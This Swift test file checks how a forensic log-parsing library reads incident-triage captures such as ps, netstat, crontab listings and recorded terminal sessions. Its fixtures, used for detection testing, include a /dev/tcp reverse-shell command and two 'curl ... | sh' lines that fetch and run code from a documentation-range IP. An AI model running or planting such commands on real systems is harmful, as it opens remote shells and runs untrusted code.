import Bytes
import Evidence
import Testing

@testable import LogParse

/// The output of several commands in one file.
@Suite struct TranscriptTests {
  private static let ps =
    "UID          PID    PPID  C STIME TTY          TIME CMD\n"
    + "tomcat       465     351  0 14:22 ?        00:00:00 bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n"
  private static let netstat =
    "Active Internet connections (servers and established)\n"
    + "Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name    \n"
    + "tcp        0      0 10.0.2.15:51270         203.0.113.66:4444       ESTABLISHED 465/bash            \n"

  private func dump(_ text: String, _ path: String = "triage.txt") throws -> EventDump {
    try EventDump(text, path: path, collected: nil)
  }

  /// The bytes that an event names.
  private func place(_ event: Event, in text: String) -> String {
    let start = Int(event.locator.offset ?? 0)
    return String(decoding: Array(text.utf8)[start..<start + Int(event.locator.length ?? 0)], as: UTF8.self)
  }

  @Test(arguments: [
    ("===== ps -ef =====\n", "===== netstat -anp =====\n"), ("$ ps -ef\n", "$ netstat -anp\n"),
    ("[root@web-1 ~]# ps -ef\n", "[root@web-1 ~]# netstat -anp | head\n"), ("### ps -ef ###\n", "\n### netstat ###\n"),
    ("admin@web-1:/tmp$ ps -ef\n", "admin@web-1:/tmp$ sudo netstat -anp\n"), ("+ ps -ef\n", "+ netstat -anp\n"),
    ("web-1:~ # ps -ef\n", "web-1:~ # netstat -anp\n"), ("/ # ps\n", "/ # netstat\n"), ("", ""),
    ("[*] Collecting ps -ef\n", "[*] Collecting netstat -anp\n"), ("-----\nps -ef\n-----\n", "-----\nnetstat\n-----\n"),
    ("Command: ps -ef\n--------\n", "Command: netstat\n--------\n"), ("=== ps -p x -f ===\n", "=== netstat x -n ===\n"),
    ("## ps -ef\n```\n", "```\n## netstat -anp\n```\n"),
  ])
  func sections(_ first: String, _ second: String) throws {
    let text = first + Self.ps + second + Self.netstat
    let dump = try dump(text)
    #expect(dump.format == "capture.transcript", "\(text)")
    #expect(dump.events.map(\.dataType) == ["linux:capture:process", "linux:capture:socket"], "\(text)")
    #expect(dump.coverages.map(\.state) == [.parsed] && dump.coverages.last?.end == UInt64(text.utf8.count), "\(text)")
    let rows = text.split(separator: "\n", omittingEmptySubsequences: false)
    for event in dump.events {
      let place = place(event, in: text)
      #expect(place.hasPrefix("t") && event.locator.line.map { String(rows[$0 - 1]) } == place)
    }
  }

  /// What `script` recorded: colours, titles, carriage returns, a command that was typed with a mistake.
  @Test func recordedTerminal() throws {
    let prompt = "\u{1B}[?2004h\u{1B}]0;root@web-1: ~\u{07}root@web-1:~# "
    let text =
      "Script started on 2026-11-25 14:40:02+09:00 [TERM=\"xterm\"]\n" + prompt + "datte\u{08}\u{08}e\r\n"
      + "\u{1B}[?2004l\rWed Nov 25 14:40:03 KST 2026\r\n" + prompt + "ps -ef\r\n"
      + Self.ps.replacing("\n", with: "\r\n") + prompt + "\u{1B}[01;31mls\u{1B}[0m /tmp\r\n\u{1B}[01;34mx\u{1B}[0m\r\n"
    let dump = try dump(text, "typescript")
    #expect(dump.events.map(\.dataType) == ["linux:host:clock", "linux:capture:process"])
    // The clock in front tells the day and the zone of the times behind.
    #expect(dump.events.last?.time?.description == "2026-11-25T05:22:00Z")
    #expect(dump.events.last.map { place($0, in: text) } ?? "" == Self.ps.split(separator: "\n")[1] + "")
    #expect(dump.coverages.allSatisfy { $0.state != .skipped })
  }

  @Test func filesThatHeadShowed() throws {
    let dump = try dump(
      "==> /proc/1/cmdline <==\n/sbin/init\0\n==> /proc/2/cmdline <==\n\n==> /proc/465/cmdline <==\nbash\0-i\0\n"
        + "==> /etc/passwd <==\nroot:x:0:0:root:/root:/bin/bash\n\n==> /var/log/auth.log <==\n"
        + "Nov 25 05:21:40 web-1 sshd[420]: Accepted password for admin from 10.0.1.50 port 50022 ssh2\n", "x.txt")
    #expect(
      dump.events.map(\.dataType) == [
        "linux:capture:process", "linux:capture:process", "linux:account", "linux:auth:entry",
      ])
    #expect(dump.events.prefix(2).map { $0.integer("pid") } == [1, 465])
    #expect(dump.events[1].text("command_line") == "bash -i")
  }

  @Test func listedFolder() throws {
    let dump = try dump(
      "$ id\nuid=0(root) gid=0(root)\n$ ls -la /tmp\ntotal 4\n-rwsr-xr-x 1 root root 12 Nov 25 05:22 .x\n")
    #expect(dump.events.last?.text("path") == "/tmp/.x")
  }

  @Test func crontabsOfAllUsers() throws {
    let dump = try dump(
      "root\nno crontab for root\nENDOFUSERCRON\nadmin\n*/5 * * * * curl http://203.0.113.66/a | sh\nENDOFUSERCRON\n",
      "x-cron-tab-list.txt")
    #expect(dump.events.map { $0.text("user") } == ["admin"])
    #expect(dump.events.first?.text("mechanism") == "cron")
  }

  /// An attack in output that no format knows is seen all the same.
  @Test func outputThatNobodyKnows() throws {
    let text = "$ ps -ef\n" + Self.ps + "$ cat /tmp/x.sh\ncurl http://203.0.113.66/x | sh\n$ whoami\nroot\n"
    let dump = try dump(text)
    #expect(dump.events.map(\.dataType) == ["linux:capture:process", "text:line"])
    #expect(dump.events.last.map { place($0, in: text) } == "curl http://203.0.113.66/x | sh")
    #expect(dump.coverages.map(\.state) == [.parsed, .scanned, .parsed, .scanned])
  }

  @Test(arguments: [
    "Usage\n=====\nRun this:\n\n$ ps aux\n$ netstat -anp\n\nand send us the output.\n",
    "#!/bin/bash\necho \"===== ps aux =====\"\nps aux\n# ps\nps -ef > ps.txt\n# date\ndate > date.txt\n",
    "# Notes\n# find out who\n$ nothing\n## last login of the month\n### free of charge\n",
    "==> not a file\n", "$\n#\n%\n", "",
  ])
  func whatIsNone(_ text: String) {
    #expect(EventDump.recognize(Array(text.utf8), path: "x.txt")?.name != "capture.transcript")
  }

  /// One command with a prompt, a table of two parts, a file on the disk: as they were.
  @Test func oneCommandAlone() throws {
    #expect(try dump(Self.ps).format == "capture.ps" && dump(Self.netstat).format == "capture.netstat")
    let both = "Filesystem     1K-blocks   Used Available Use% Mounted on\n/dev/vda  1776088 709592  957952  43% /\n"
    #expect(try dump(both + "/dev/vda on / type ext4 (rw,relatime)\n").format == "capture.filesystem")
    let text = "===== ps -ef =====\n" + Self.ps + "===== netstat =====\n" + Self.netstat
    #expect(try dump(text, "[root]/usr/share/doc/x/README").format != "capture.transcript")
  }

  @Test func lineThatIsTooLong() throws {
    let text =
      "$ ps -ef\nUID          PID    PPID  C STIME TTY          TIME CMD\nroot           1       0  0 14:22 ?        00:00:00 "
      + String(repeating: "A", count: 3 << 20)
      + "\nroot           2       0  0 14:22 ?        00:00:00 x\n$ id\nuid=0(root) gid=0(root) groups=0(root)\n"
    let dump = try dump(text)
    #expect(dump.events.count == 3 && dump.coverages.last?.end == UInt64(text.utf8.count))
    #expect(dump.events.last.map { place($0, in: text) } == "uid=0(root) gid=0(root) groups=0(root)")
    #expect(dump.coverages.filter { $0.state == .skipped }.count == 1)
  }

  /// However it is cut, nothing is lost without a word.
  @Test func cutAnywhere() throws {
    let whole = Array(("\u{1B}[1m$ ps -ef\u{1B}\n" + Self.ps + "==> /x <==\n$ netstat\n" + Self.netstat).utf8)
    for end in stride(from: 0, through: whole.count, by: 7) {
      let dump = try EventDump(Array(whole[..<end]), path: "x.txt", format: TranscriptFormat())
      #expect(dump.coverages.last?.end ?? 0 == UInt64(end))
    }
  }

  @Test func whatScriptRecordedOfOneCommand() throws {
    let rows = (0..<3000).map { "-rwxr-xr-x 1 root root 12 Nov 25 05:22 file\($0)\n" }.joined()
    let text =
      "Script started on 2026-11-25 05:20:24+00:00 [COMMAND=\"ls -l\"]\ntotal 4\n" + rows
      + "\nScript done on 2026-11-25 05:21:24+00:00 [COMMAND_EXIT_CODE=\"0\"]\n"
    let dump = try EventDump(text, path: "typescript")
    #expect(dump.format == "capture.transcript" && dump.events.count == 3000)
    #expect(dump.coverages.allSatisfy { $0.state == .parsed })
  }

  @Test func banners() throws {
    for banner in ["[*] Running: ps -ef", "[+] Executing: ps -ef", "Output: ps -ef"] {
      let dump = try EventDump(
        "\(banner)\n" + Self.ps + "[*] Running: date\nWed Nov 25 05:25:09 UTC 2026\n", path: "x.txt")
      #expect(dump.events.contains { $0.dataType == "linux:host:clock" }, "\(banner)")
    }
  }

  @Test func outputInColour() throws {
    let row = "\u{1B}[0m[\u{1B}[32m    3.250000\u{1B}[0m] x: loading out-of-tree module taints kernel.\n"
    let dump = try EventDump(row + row + row, path: "dmesg.txt")
    #expect(dump.format == "capture.transcript" && dump.events.count == 3)
    let log = "\u{1B}[32mINFO\u{1B}[0m it began\n"
    #expect(EventDump.recognize(Array((log + log + log).utf8), path: "x.log")?.name != "capture.transcript")
  }
}
